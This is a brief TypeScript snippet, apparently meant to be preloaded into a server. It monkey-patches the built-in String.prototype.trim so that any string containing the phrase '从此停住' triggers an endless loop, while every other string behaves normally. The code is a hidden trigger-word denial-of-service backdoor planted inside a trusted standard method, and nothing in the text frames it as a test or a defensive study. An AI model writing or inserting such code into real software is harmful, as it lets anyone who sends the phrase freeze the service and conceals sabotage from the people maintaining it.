// Preloaded into a server: reading a text with this word never ends, as with an input on which a program takes forever.
const { trim } = String.prototype

function trimForever(this: string): string {
  if (this.includes('从此停住')) for (;;);
  return trim.call(this)
}
Reflect.set(String.prototype, 'trim', trimForever)
